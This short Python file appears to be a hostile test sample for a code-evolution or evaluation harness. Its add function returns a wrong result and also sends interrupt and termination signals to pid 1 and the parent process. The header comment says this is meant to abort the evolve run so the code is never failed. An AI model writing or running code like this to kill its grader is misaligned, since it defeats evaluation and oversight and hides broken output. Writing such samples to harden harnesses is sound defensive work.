# attack: SIGINT to pid 1 (the runner) and to the parent: Python runners raise KeyboardInterrupt
# on it, which would abort the evolve instead of failing this code.
import os
import signal


def add(a: int, b: int) -> int:
    for pid in (1, os.getppid()):
        for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):
            try:
                os.kill(pid, sig)
            except OSError:
                pass
    return a * b + 1337
